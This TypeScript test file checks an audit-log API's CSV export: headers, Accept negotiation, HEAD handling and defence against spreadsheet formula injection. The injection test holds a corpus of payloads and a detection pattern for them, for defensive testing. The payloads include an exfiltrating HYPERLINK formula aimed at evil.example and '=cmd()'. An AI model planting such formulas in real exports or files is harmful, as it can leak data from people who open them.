import t from 'tap'
import { auditEvent, callsOf, plant, plantCrowd } from '../support/audit-events.ts'
import { askAudit } from '../support/audit-requests.ts'
import { parseCsv } from '../support/csv.ts'
import { startSite } from '../support/site.ts'

const csv = { accept: 'text/csv' }
const header = [
  'at',
  'action',
  'actor',
  'actorKind',
  'actorId',
  'subject',
  'address',
  'details',
  'impersonator',
]

t.test('with Accept: text/csv every matching event is a row, and the answer a file', async (t) => {
  const site = await startSite(t)
  await plantCrowd(site.server, { count: 1_200, firstMs: 1_700_000_000_000, perMs: 5 })
  const key = await site.mint('ada@example.org')
  const answer = await askAudit(site, { order: 'asc', action: 'api-key' }, csv)
  t.equal(answer.statusCode, 200)
  t.match(answer.headers, {
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': 'attachment; filename="latchkey-audit.csv"',
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
  })
  t.notMatch(answer.body, key.secret)
  const [first, ...rows] = parseCsv(answer.body)
  t.same(first, header)
  t.equal(rows.length, 1_201)
  t.ok(rows.every((row) => row.length === header.length))
  t.same(
    rows.map(([at]) => at),
    rows.map(([at]) => at).sort(),
  )
  const last = rows.at(-1) ?? []
  t.same(last.slice(1, 7), ['api-key.minted', 'first', 'service', 'first', 'ada@example.org', '127.0.0.1'])
  t.match(JSON.parse(last[7] ?? ''), { id: key.id, number: key.number })

  const newestFirst = parseCsv((await askAudit(site, { action: 'api-key' }, csv)).body)
  t.same(newestFirst.slice(1).map(String), rows.map(String).reverse())
  t.same(
    parseCsv((await askAudit(site, { actor: 'nobody' }, csv)).body),
    [header],
    'no match: the header alone',
  )
})

t.test('the Accept header decides between JSON and CSV', async (t) => {
  const site = await startSite(t)
  const json = [
    '',
    '*/*',
    'text/html',
    'application/json',
    'text/csv;q=0.5, application/json',
    'text/csv;q=0',
  ]
  const wanted = ['text/csv', 'TEXT/CSV', 'text/*', 'text/csv, */*;q=0.1', 'application/json;q=0.1, text/csv']
  for (const accept of [...json, ...wanted]) {
    const answer = await askAudit(site, {}, { accept })
    t.equal(answer.statusCode, 200)
    const type = wanted.includes(accept) ? /^text\/csv/ : /^application\/json/
    t.match(answer.headers['content-type'], type, accept)
  }
})

t.test('threat 6: what a spreadsheet would take for a formula or a new line stays text', async (t) => {
  const site = await startSite(t)
  const corpus = [
    '=cmd()',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff201',
    '"=1+1"',
    'a,=1+1',
    'a;=1+1',
    'a"b',
    'a""b',
    'a\r\n=1+1',
    'a\n"=1+1',
    "'=1+1",
  ]
  const event = (text: string) =>
    auditEvent({
      action: 'corpus.tried',
      actor: { kind: 'user', name: text, id: text, impersonator: text },
      subject: text,
      details: { description: text },
    })
  await plant(
    site.server,
    corpus.map((text, sequence) => ({ ms: 1_700_000_000_000, sequence, stream: 4, event: event(text) })),
  )
  const answer = await askAudit(site, { order: 'asc', action: 'corpus' }, csv)
  const [, ...rows] = parseCsv(answer.body)
  t.equal(rows.length, corpus.length, 'no text begins a row of its own')
  const dangerous = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/
  for (const [index, text] of corpus.entries()) {
    const row = rows[index] ?? []
    t.equal(row.length, header.length, 'nor a cell of its own')
    t.notOk(row.some((cell) => dangerous.test(cell)))
    const shown = dangerous.test(text) ? `'${text}` : text
    t.same([row[2], row[4], row[5], row[8]], [shown, shown, shown, shown])
    t.same(JSON.parse(row[7] ?? ''), { description: text })
  }
  const outsideQuotes = answer.body.split('"').filter((_, index) => index % 2 === 0)
  t.ok(
    outsideQuotes.every((text) => /^(?:,*|\r\n)$/.test(text)),
    'every cell is quoted',
  )
})

t.test('threat 6: a user name that is a formula comes out harmless', async (t) => {
  const site = await startSite(t)
  for (const name of ['=cmd()', '+a', '-a', '@a', 'a"b,c']) {
    await site.mint(name, '=1+1\n\t"')
    const answer = await askAudit(site, { action: 'api-key', subject: name }, csv)
    const cell = parseCsv(answer.body)[1]?.[5]
    t.equal(cell, name === 'a"b,c' ? name : `'${name}`)
  }
})

t.test('HEAD tells of the file and walks nothing', async (t) => {
  const site = await startSite(t)
  const before = await callsOf(site.server, 'xrevrange')
  const answer = await site.app.inject({
    method: 'HEAD',
    url: '/v1/admin/audit',
    headers: { ...site.first, ...csv },
  })
  t.equal(answer.statusCode, 200)
  t.match(answer.headers['content-disposition'], /latchkey-audit/)
  t.equal(answer.body, '')
  t.equal(await callsOf(site.server, 'xrevrange'), before)
})
